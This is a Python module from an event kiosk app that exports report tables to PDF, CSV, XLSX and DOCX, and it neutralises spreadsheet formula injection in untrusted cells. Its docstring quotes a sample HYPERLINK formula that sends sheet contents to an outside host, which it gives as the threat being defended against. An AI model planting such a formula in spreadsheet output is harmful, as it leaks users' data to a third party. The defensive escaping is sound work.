"""Reports for the minutes (biên bản) as PDF, CSV, XLSX or DOCX, from one table of cells.

Each domain builds a `ReportTable` (kiosk.checkin.report, kiosk.timer.report);
this module only writes it out. No Flask.

- PDF: set in the badges' Unicode font (reportlab's Helvetica has no ơ, ư, đ,
  ạ…), embedded, with nothing left in Helvetica (not even the page's initial
  font); title, subject and author (the organiser) in the metadata.
- CSV: a byte-order mark so that Excel shows the diacritics.
- Formulas: a cell is either a :class:`Figure` that kiosk computed (a count, a
  time, a duration such as -00:32), or text, which may come from anyone: a
  walk-in's name, a desk, a line of the programme. Excel and LibreOffice run a
  CSV cell that starts with = + - @, tab or CR as a formula
  (``=HYPERLINK("http://x/?"&A1,"Xem thẻ")`` sends the sheet away), so such text
  gets a leading single quote in the CSV (the OWASP rule); in the XLSX every
  cell is written as text (never a formula) and shown exactly as typed, as in
  the PDF. Figures are written as they are, so times read as times.
- DOCX: an administrative document (kiosk.documents) to file beside the
  minutes: the organiser's header with the national name and motto, the
  report's title and lines, the summary, then the table (landscape when it is
  wide), in Times New Roman.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Self

from kiosk.documents.model import Document, Grid, Header
from kiosk.documents.naming import issuing_body

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.platypus import Paragraph

# openpyxl, reportlab and python-docx are imported by the writer that needs them, not here: this module is
# imported by every view (kiosk.web names FORMATS), and those three take half a second to import, at every
# start of the server and of each command.

FORMATS = {
    "pdf": "application/pdf",
    # No charset here: Flask's send_file adds "; charset=utf-8" to every text/* type itself.
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
}
TABLE_FORMATS = ("pdf", "csv", "xlsx", "docx")
"""What a ReportTable is written as; other documents (the minutes) offer fewer of FORMATS."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FIGURE = re.compile(r"[-+]?[0-9:/., ]*")


class Figure(str):
    """A value kiosk computed, not text anyone typed: digits with : / . , and a sign ("12/120", "-00:32").

    Written as it is in every format. Anything else cannot be a Figure, so no
    typed text escapes the formula rule by being wrapped in one.
    """

    __slots__ = ()

    def __new__(cls, value: str) -> Self:
        if not _FIGURE.fullmatch(value):
            raise ValueError(f"not a figure: {value!r}")
        return super().__new__(cls, value)


@dataclass(frozen=True)
class ReportTable:
    title: str
    heading: list[str]  # lines under the title: event, organiser, date
    columns: tuple[str, ...]
    rows: list[list[str]]
    widths_mm: tuple[float, ...]  # PDF column widths; they set the page's orientation too
    sheet_name: str
    summary: list[tuple[str, str]] = field(default_factory=list)
    totals: list[str] | None = None
    # Rows that start a section (e.g. a group), with their text in the first cell:
    # drawn across the whole width, shaded and bold.
    section_rows: frozenset[int] = frozenset()
    subject: str = ""  # the PDF's metadata: what the report is about (the event)
    author: str = ""  # and who made it (the organiser)


def render(table: ReportTable, fmt: str) -> bytes:
    return {"pdf": _pdf, "csv": _csv, "xlsx": _xlsx, "docx": _docx}[fmt](table)


def csv_cell(value: str) -> str:
    """Text that a spreadsheet would run as a formula, with a leading quote; figures and other text as they are."""
    if isinstance(value, Figure) or not value.startswith(FORMULA_STARTS):
        return value
    return "'" + value


def _csv(table: ReportTable) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)

    def write(row: list[str] | tuple[str, ...]) -> None:
        writer.writerow([csv_cell(value) for value in row])

    write(table.columns)
    for row in table.rows:
        write(row)
    if table.totals:
        write(table.totals)
    if table.summary:
        writer.writerow([])
        for label, value in table.summary:
            write([label, value])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _append(sheet: Worksheet, values: list[str] | tuple[str, ...]) -> tuple[Cell, ...]:
    """A row of text cells, never formulas, shown as typed (less the control characters XLSX cannot hold)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) for value in values])
    cells: tuple[Cell, ...] = sheet[sheet.max_row]
    for cell in cells:
        if cell.value is not None:
            cell.data_type = "s"  # openpyxl made a formula of "=…"
    return cells


def _xlsx(table: ReportTable) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    sheet.title = table.sheet_name
    for line in (table.title, *table.heading):
        _append(sheet, [line])
    sheet["A1"].font = Font(bold=True, size=14)
    sheet.append([])
    for label, value in table.summary:
        _append(sheet, [label, value])
    if table.summary:
        sheet.append([])
    _append(sheet, table.columns)
    header_row = sheet.max_row
    for index, row in enumerate(table.rows):
        cells = _append(sheet, row)
        if index in table.section_rows:
            for cell in cells:
                cell.font = Font(bold=True)
    if table.totals:
        for cell in _append(sheet, table.totals):
            cell.font = Font(bold=True)
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
    for row in sheet.iter_rows(min_row=header_row + 1):
        for cell in row:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    for index, width in enumerate(table.widths_mm, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(6.0, width * 0.55)
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _escape(text: str) -> str:
    """Paragraph text is a small XML dialect: "HĐND&UBND" must keep its ampersand."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _pdf(table: ReportTable) -> bytes:
    from reportlab.lib import colors
    from reportlab.lib.pagesizes import A4, landscape, portrait
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.lib.units import mm
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Spacer, Table, TableStyle

    from kiosk.badges.fonts import FontSet

    fonts = FontSet.default()
    regular, bold = fonts.pdf_name(bold=False), fonts.pdf_name(bold=True)
    body = ParagraphStyle("body", fontName=regular, fontSize=9, leading=11)
    strong = ParagraphStyle("strong", parent=body, fontName=bold)
    title = ParagraphStyle("title", fontName=bold, fontSize=14, leading=18, alignment=1, spaceAfter=4)
    centred = ParagraphStyle("centred", parent=body, fontSize=10, leading=13, alignment=1)

    def cells(values: list[str], style: ParagraphStyle) -> list[Paragraph]:
        return [Paragraph(_escape(value), style) for value in values]

    story: list[object] = [Paragraph(_escape(table.title), title)]
    story += [Paragraph(_escape(line), centred) for line in table.heading]
    story.append(Spacer(1, 4 * mm))
    if table.summary:
        summary = Table([cells([label, value], body) for label, value in table.summary],
                        colWidths=(60 * mm, 80 * mm), hAlign="LEFT")
        summary.setStyle(TableStyle([("BOTTOMPADDING", (0, 0), (-1, -1), 1), ("FONTNAME", (0, 0), (-1, -1), regular)]))
        story += [summary, Spacer(1, 4 * mm)]
    data = [cells(list(table.columns), strong)]
    data += [cells(row, strong if i in table.section_rows else body) for i, row in enumerate(table.rows)]
    if table.totals:
        data.append(cells(table.totals, strong))
    grid = Table(data, colWidths=[w * mm for w in table.widths_mm], repeatRows=1)
    shade = colors.HexColor("#e8ecf1")
    style = [
        ("GRID", (0, 0), (-1, -1), 0.4, colors.HexColor("#8a94a3")),
        ("BACKGROUND", (0, 0), (-1, 0), shade),
        ("VALIGN", (0, 0), (-1, -1), "TOP"),
        ("FONTNAME", (0, 0), (-1, -1), regular),  # a table sets its cells' font even when they hold paragraphs
    ]
    for i in table.section_rows:
        style += [("BACKGROUND", (0, i + 1), (-1, i + 1), shade), ("SPAN", (0, i + 1), (-1, i + 1))]
    if table.totals:
        style.append(("BACKGROUND", (0, -1), (-1, -1), shade))
    grid.setStyle(TableStyle(style))
    story.append(grid)
    page = landscape(A4) if sum(table.widths_mm) > 190 else portrait(A4)
    out = io.BytesIO()
    SimpleDocTemplate(out, pagesize=page, leftMargin=10 * mm, rightMargin=10 * mm, topMargin=12 * mm,
                      bottomMargin=12 * mm, title=table.title, subject=table.subject, author=table.author,
                      creator="kiosk", initialFontName=regular).build(story)  # else each page starts in Helvetica
    return out.getvalue()


def report_document(table: ReportTable) -> Document:
    """The report as an administrative document (kiosk.documents): header, title, summary, the table."""
    summary = Grid(columns=(), rows=tuple((label, value) for label, value in table.summary), widths_mm=(60, 130),
                   size=12, borders=False)
    wide = len(table.columns) > 8
    grid = Grid(columns=table.columns, rows=tuple(tuple(row) for row in table.rows), widths_mm=table.widths_mm,
                totals=tuple(table.totals) if table.totals else None, section_rows=table.section_rows,
                size=9 if wide else 11)
    return Document(
        name=table.title, header=Header(body=issuing_body(table.author)) if table.author else None,
        lead=tuple(table.heading), blocks=(summary, grid) if table.summary else (grid,),
        title=table.title, author=table.author, description=table.subject, landscape=sum(table.widths_mm) > 190,
        body_size=13,
    )


def _docx(table: ReportTable) -> bytes:
    from kiosk.documents.word import render_docx

    return render_docx(report_document(table))
